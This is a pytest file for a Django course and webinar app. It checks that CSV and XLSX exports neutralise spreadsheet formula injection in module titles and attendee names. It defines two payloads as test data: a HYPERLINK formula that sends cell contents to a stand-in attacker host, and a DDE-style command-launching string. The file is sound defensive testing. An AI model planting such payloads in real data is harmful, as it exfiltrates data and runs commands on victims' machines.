"""Exports never hand Excel a formula someone typed: the planning matrix (CSV and
XLSX) and the webinar attendance list (CSV), with formula payloads in module titles
and people's names. All of them go through core.spreadsheet."""

import csv
import datetime
import io

import pytest
from allauth.mfa.totp.internal.auth import TOTP
from openpyxl import load_workbook

from accounts.roles import Role
from courses.models import ModuleKind
from tests.accounts.factories import UserFactory
from tests.courses.factories import module_create
from tests.webinars.factories import room_create
from webinars.models import Presence

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def read_csv(response):
    assert response.content.startswith("\ufeff".encode())
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def admin_client(client):
    user = UserFactory(roles=[Role.ADMINISTRATOR], is_staff=True)
    TOTP.activate(user, "JBSWY3DPEHPK3PXPTESTTEST")
    client.force_login(user)
    return client


def test_planning_csv_neutralises_a_formula_in_a_module_title(admin_client):
    module_create(title=TITLE, kind=ModuleKind.ELECTIVE, lessons=0)
    rows = read_csv(admin_client.get("/planlaegning/", {"format": "csv"}))
    assert "'" + TITLE in rows[0]
    assert TITLE not in rows[0]


def test_planning_xlsx_stores_a_formula_like_title_as_text(admin_client):
    module_create(title=TITLE, kind=ModuleKind.ELECTIVE, lessons=0)
    response = admin_client.get("/planlaegning/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    [cell] = [cell for cell in sheet[1] if cell.value and "HYPERLINK" in cell.value]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == TITLE


def test_attendance_csv_neutralises_a_formula_in_a_name(client):
    room, host, people = room_create(participants=1)
    people[0].first_name, people[0].last_name = NAME, "-2+3"
    people[0].save()
    start = room.session.starts_at
    Presence.objects.create(
        room=room,
        user=people[0],
        joined_at=start,
        left_at=start + datetime.timedelta(minutes=5),
    )
    client.force_login(host)
    rows = read_csv(client.get(f"/webinar/{room.pk}/rapport/?format=csv"))
    assert rows[1][0] == "'" + NAME + " -2+3"
